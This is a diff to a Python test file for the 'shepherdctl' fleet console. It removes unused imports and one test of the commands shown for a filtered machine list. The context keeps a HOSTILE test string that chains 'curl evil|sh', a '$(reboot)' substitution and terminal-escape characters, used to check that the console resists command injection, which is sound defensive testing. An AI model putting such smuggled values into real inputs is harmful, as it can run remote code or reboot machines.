@@ -7,9 +7,8 @@ from uuid import UUID
 import pytest
 
 from shepherdctl.options import REASON_TO_WRITE
-from tests.support.bmdb.fleet import HOUR, Fleet
-from tests.support.command_line import CommandLine
-from tests.support.console import Visitor, commands, parsed, plant_hostile_text, words
+from tests.support.bmdb.fleet import Fleet
+from tests.support.console import Visitor, commands, parsed, plant_hostile_text
 
 HOSTILE = "srv-1; curl evil|sh \"'$(reboot)\n\x1b[201~\u202e"
 
@@ -107,17 +106,3 @@ def test_a_page_can_be_sent_to_a_colleague(visitor: Visitor, machine_id: UUID) -
             target = unescape(response.text.partition("0;url=")[2].partition('"')[0])
             assert opened.read(target) != ""
             assert unquote_plus(target) == unquote_plus(path)
-
-
-def test_the_commands_of_a_list_are_for_what_it_shows(visitor: Visitor, fleet: Fleet) -> None:
-    shepherdctl = CommandLine(fleet.settings)
-    wanted = fleet.locate(fleet.quarantine(fleet.unhealthy_machine(2 * HOUR)), "rack 7")
-    fleet.locate(fleet.reporting_machine(60), "rack 7")
-    fleet.quarantine(fleet.unhealthy_machine(2 * HOUR))
-    found, *others = commands(visitor.read("/machines?location=rack+7&state=quarantined"))
-    assert [each["machine_id"] for each in shepherdctl.load(*words(found))] == [str(wanted)]
-    for line in others:
-        if parsed(written(line))[0] in {"pause", "machine unquarantine"}:
-            shown = shepherdctl.read(*words(written(line)), "--dry-run")
-            assert shown.count(str(wanted)) == 1
-            assert len(shown.splitlines()) == 2
